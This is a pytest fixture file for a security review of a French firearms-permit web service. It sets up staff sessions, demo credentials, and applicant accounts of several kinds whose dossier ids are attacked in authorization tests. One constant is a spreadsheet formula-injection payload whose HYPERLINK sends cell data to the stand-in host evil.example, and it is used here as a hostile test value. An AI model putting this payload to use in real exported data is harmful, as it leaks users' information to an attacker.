"""Fixtures of the security review: the running stack's two edges, applicants of different kinds
(two private persons, two OPPD colleagues of one company, an OPPD member of another company),
the demo staff and machine client, and one applicant's "world" of ids (draft and transmitted
dossiers, library document, pinned copy, notification) that the others attack."""

from __future__ import annotations

import random
import re
import sys
import time
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest

sys.path.insert(0, str(Path(__file__).parents[1] / "system"))

from system_testkit import (  # noqa: E402
    HUNTER,
    OFFICER,
    SUPERVISOR,
    Applicant,
    bearer,
    fill_and_transmit,
    hunter_draft,
    machine_token,
    register_hunter,
    seeded_totp_secrets,
    send_with_backoff,
    sign_in_applicant,
    sign_in_staff,
    text_of,
    unique,
    unique_phone,
    upload_document,
    wait_mail,
    wait_sms,
)

GUNSMITH = ("armurier@demo-eaps.fr", "Atelier-Canon-2024!")
COLLEAGUE = ("collegue@demo-eaps.fr", "Atelier-Crosse-2024!")
PAE_AGENT = ("pae@demo-eaps.fr", "Pole-Action-2024!")
PAE_CODE = "PAE-IDF-PARIS"
# A designation/name an attacker hopes a spreadsheet will run as a formula.
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")'


@pytest.fixture(scope="session")
async def public(stack) -> AsyncIterator[httpx.AsyncClient]:  # type: ignore[no-untyped-def]
    async with httpx.AsyncClient(base_url=stack.public, timeout=60) as client:
        yield client


@pytest.fixture(scope="session")
async def internal(stack) -> AsyncIterator[httpx.AsyncClient]:  # type: ignore[no-untyped-def]
    async with httpx.AsyncClient(base_url=stack.internal, timeout=60) as client:
        yield client


class StaffSession:
    def __init__(self, internal: httpx.AsyncClient, email: str, password: str, secret: str) -> None:
        self.internal, self.email, self.password, self.secret = internal, email, password, secret
        self._token, self._refresh, self._until = "", "", 0.0

    async def sign_in(self) -> StaffSession:
        self._store(await sign_in_staff(self.internal, self.email, self.password, self.secret))
        return self

    def _store(self, body: dict[str, Any]) -> None:
        self._token, self._refresh = body["access_token"], body["refresh_token"]
        self._until = time.monotonic() + int(body["expires_in"]) - 90

    async def token(self) -> str:
        if time.monotonic() > self._until:
            r = await send_with_backoff(self.internal, "POST", "/api/v1/identity/officers/sessions/refresh",
                                        json={"refresh_token": self._refresh})
            assert r.status_code == 200, r.text
            self._store(r.json())
        return self._token


@pytest.fixture(scope="session")
def totp_secrets(stack) -> dict[str, str]:  # type: ignore[no-untyped-def]
    return seeded_totp_secrets()


@pytest.fixture(scope="session")
async def officer(internal, totp_secrets) -> StaffSession:  # type: ignore[no-untyped-def]
    return await StaffSession(internal, *OFFICER, totp_secrets[OFFICER[0]]).sign_in()


@pytest.fixture(scope="session")
async def supervisor(internal, totp_secrets) -> StaffSession:  # type: ignore[no-untyped-def]
    return await StaffSession(internal, *SUPERVISOR, totp_secrets[SUPERVISOR[0]]).sign_in()


@pytest.fixture(scope="session")
async def pae_agent(internal, totp_secrets) -> StaffSession:  # type: ignore[no-untyped-def]
    return await StaffSession(internal, *PAE_AGENT, totp_secrets[PAE_AGENT[0]]).sign_in()


@pytest.fixture(scope="session")
async def machine(internal) -> str:  # type: ignore[no-untyped-def]
    return await machine_token(internal)


async def _signed_in(public: httpx.AsyncClient, email: str, password: str) -> Applicant:
    a = Applicant(email, password, "", "", "")
    a.token = await sign_in_applicant(public, email, password)
    me = await public.get("/api/v1/identity/me", headers=bearer(a.token))
    assert me.status_code == 200, me.text
    a.account_id = me.json()["id"]
    a.extra["me"] = me.json()
    return a


@pytest.fixture(scope="session")
async def alice(public) -> Applicant:  # type: ignore[no-untyped-def]
    """A freshly registered hunter (AS): the victim whose ids the others try."""
    return await register_hunter(public)


@pytest.fixture(scope="session")
async def bob(public) -> Applicant:  # type: ignore[no-untyped-def]
    """Another private person (AS): the demo hunter."""
    return await _signed_in(public, *HUNTER)


@pytest.fixture(scope="session")
async def gunsmith(public) -> Applicant:  # type: ignore[no-untyped-def]
    """OPPD administrator of the demo company."""
    return await _signed_in(public, *GUNSMITH)


@pytest.fixture(scope="session")
async def colleague(public) -> Applicant:  # type: ignore[no-untyped-def]
    """OPPD member of the SAME company as the gunsmith."""
    return await _signed_in(public, *COLLEAGUE)


def _siret() -> str:
    """A random SIRET whose Luhn key is right."""
    digits = [random.randint(0, 9) for _ in range(13)]
    for last in range(10):
        number = digits + [last]
        total = 0
        for i, d in enumerate(reversed(number)):
            d = d * 2 if i % 2 else d
            total += d - 9 if d > 9 else d
        if total % 10 == 0:
            return "".join(map(str, number))
    raise AssertionError("unreachable")


@pytest.fixture(scope="session")
async def rival(public, pae_agent) -> Applicant:  # type: ignore[no-untyped-def]
    """A professional of ANOTHER company, granted OPPD by the demo PAE agent."""
    a = Applicant(f"armurier-{unique()}@example.fr", f"Rival-{unique()}-Atelier!", unique_phone(), "Rémi",
                  f"Concurrent-{unique()[:6]}")
    r = await send_with_backoff(public, "POST", "/api/v1/identity/registrations", json={
        "kind": "professional", "profile": "gunsmith", "email": a.email, "password": a.password, "phone": a.phone,
        "first_name": a.first_name, "last_name": a.last_name, "company_name": f"Rival {unique()} SAS",
        "siret": _siret()})
    assert r.status_code == 202, r.text
    verification_id = r.json()["verification_id"]
    code = re.search(r"\b(\d{6})\b", (await wait_sms(a.phone))["text"])
    assert code
    r = await send_with_backoff(public, "POST", "/api/v1/identity/registrations/phone-verification",
                                json={"verification_id": verification_id, "code": code.group(1)})
    assert r.status_code == 200, r.text
    link = re.search(r"\?token=([A-Za-z0-9_\-]+)", text_of(await wait_mail(a.email, "confirmer votre adresse")))
    assert link
    r = await send_with_backoff(public, "POST", "/api/v1/identity/registrations/email-verification",
                                json={"token": link.group(1)})
    assert r.status_code == 200, r.text
    token = await sign_in_applicant(public, a.email, a.password)
    r = await public.post("/api/v1/identity/habilitation-requests", headers=bearer(token), json={
        "pae_code": PAE_CODE, "company_name": f"Rival {unique()} SAS", "siret": _siret(),
        "teleservices": ["e-APS"], "justification": "Commerce d'armes de chasse, besoin d'e-APS."})
    assert r.status_code == 201, r.text
    request_id = r.json()["id"]
    r = await pae_agent.internal.post(f"/api/v1/identity/pae/habilitation-requests/{request_id}/grant",
                                      headers=bearer(await pae_agent.token()), json={"reason": "Dossier complet."})
    assert r.status_code in (200, 201), r.text
    out = await _signed_in(public, a.email, a.password)
    assert out.extra["me"].get("access_level") == "OPPD" or "OPPD" in str(out.extra["me"]), out.extra["me"]
    return out


@dataclass
class World:
    """Ids that belong to one applicant."""

    draft: dict[str, Any]
    transmitted: dict[str, Any]
    number: str
    document: dict[str, Any]
    pinned_id: str
    ids: dict[str, str] = field(default_factory=dict)


@pytest.fixture(scope="session")
async def alice_world(public, alice) -> World:  # type: ignore[no-untyped-def]
    doc = await upload_document(public, alice.token, "PC", "Permis de chasser")
    draft = (await hunter_draft(public, alice))["dossier"]
    d = (await hunter_draft(public, alice))["dossier"]
    transmitted, number = await fill_and_transmit(public, alice, d)
    pinned = next(j["pinned_document_id"] for j in transmitted["justificatifs"] if j.get("pinned_document_id"))
    return World(draft, transmitted, number, doc, pinned)


@pytest.fixture(scope="session")
async def gunsmith_world(public, gunsmith) -> World:  # type: ignore[no-untyped-def]
    """A draft and a library document of the demo company (made by its administrator)."""
    doc = await upload_document(public, gunsmith.token, "PC", "Kbis de la société")
    r = await public.post("/api/v1/dossiers", json={"applicant_kind": "professional"}, headers=bearer(gunsmith.token))
    assert r.status_code == 201, r.text
    return World(r.json(), {}, "", doc, "")


@pytest.fixture(scope="session")
def people(alice, bob, gunsmith, colleague, rival) -> dict[str, Applicant]:  # type: ignore[no-untyped-def]
    return {"alice": alice, "bob": bob, "gunsmith": gunsmith, "colleague": colleague, "rival": rival}


def _identity_cli(*args: str) -> str:
    import os
    import subprocess

    from system_testkit import ROOT
    sys.path.insert(0, str(ROOT / "deploy" / "local"))
    try:
        from run import stack_env  # type: ignore[import-not-found]
    finally:
        sys.path.pop(0)
    return subprocess.run([sys.executable, "-m", "identity.cli", *args], cwd=ROOT,
                          env={**os.environ, **stack_env()}, capture_output=True, text=True, timeout=120,
                          check=True).stdout


@pytest.fixture(scope="session")
async def reader_machine(internal) -> str:  # type: ignore[no-untyped-def]
    """Another administration's client created by the administration command with decisions:read only."""
    out = _identity_cli("create-client", "--name", f"Préfecture test sécurité {unique()}", "--scope", "decisions:read")
    client_id = re.search(r"Client créé : (\S+)", out)
    secret = re.search(r"secret : (\S+)", out)
    assert client_id and secret, out
    r = await send_with_backoff(internal, "POST", "/api/v1/identity/oauth/token", data={
        "grant_type": "client_credentials", "client_id": client_id.group(1), "client_secret": secret.group(1)})
    assert r.status_code == 200, r.text
    return str(r.json()["access_token"])
